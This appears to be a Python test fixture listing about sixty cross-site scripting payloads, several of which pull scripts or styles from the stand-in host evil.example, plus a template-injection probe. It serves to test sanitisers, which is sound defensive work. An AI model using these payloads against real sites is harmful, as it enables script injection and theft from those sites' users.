"""Texts that an attacker would put into a feed or a comment."""

from __future__ import annotations

CALL = "alert(1)"
PAYLOADS = [
    *(
        form.format(call=CALL)
        for form in (
            "<script>{call}</script>", "</title><script>{call}</script>",
            "</textarea><script>{call}</script>", "</style><script>{call}</script>",
            "--><script>{call}</script>", "]]><script>{call}</script>",
            "<ScRiPt>{call}</sCrIpT>", "<script/x>{call}</script>", "<script\n>{call}</script>",
            "<<script>{call}//<</script>", "<script src=//evil.example/x.js></script>",
            "<script src=data:text/javascript,{call}></script>", "'><script>{call}</script>",
            '"><script>{call}</script>', "</script><script>{call}</script>",
            "<img src=x onerror={call}>", '"><img src=x onerror={call}>',
            "'><img src=x onerror={call}>", "<img/src=x/onerror={call}>",
            "<img src=x onerror=&#97;lert(1)>", "<img src='x'onerror='{call}'>",
            "<image src=x onerror={call}>", "<svg onload={call}>", "<svg/onload={call}>",
            "<svg><script>{call}</script></svg>",
            "<svg><a xlink:href=javascript:{call}>x</a></svg>",
            "<svg><animate onbegin={call} attributeName=x dur=1s>", "<body onload={call}>",
            "<iframe src=javascript:{call}></iframe>", "<iframe srcdoc='<script>{call}</script>'>",
            "<object data=javascript:{call}>", "<embed src=javascript:{call}>",
            "<a href=javascript:{call} autofocus onfocus={call}>x</a>",
            "<input autofocus onfocus={call}>", "<select autofocus onfocus={call}>",
            "<textarea autofocus onfocus={call}>", "<details open ontoggle={call}>",
            "<video><source onerror={call}></video>", "<audio src=x onerror={call}>",
            "<marquee onstart={call}>", "<math><mtext><script>{call}</script></mtext></math>",
            "<form><button formaction=javascript:{call}>x</button></form>",
            "<meta http-equiv=refresh content='0;url=javascript:{call}'>",
            "<base href=javascript:{call}//>", "<link rel=stylesheet href=//evil.example/x.css>",
            "<style>@import '//evil.example/x.css';</style>",
            "<div style=background:url(//evil.example/x)>", "<template><script>{call}</script>",
            "<noscript><p title='</noscript><img src=x onerror={call}>'>",
            "<math><style><img src=x onerror={call}></style></math>",
            "<table background=//evil.example/x>",
            "<xss onclick={call} style=display:block>x</xss>",
            '" onmouseover="{call}', "' onmouseover='{call}", '" autofocus onfocus="{call}" x="',
            "javascript:{call}", "&lt;script&gt;{call}&lt;/script&gt;",
            "&#60;script&#62;{call}&#60;/script&#62;", "\\x3cscript\\x3e{call}\\x3c/script\\x3e",
            "${{{call}}}", "%3Cscript%3E{call}%3C/script%3E",
            "+ADw-script+AD4-{call}+ADw-/script+AD4-",
        )
    ),
    "{{ 7*7 }}{% for x in (1).__class__.__base__.__subclasses__() %}{% endfor %}",
]  # fmt: skip
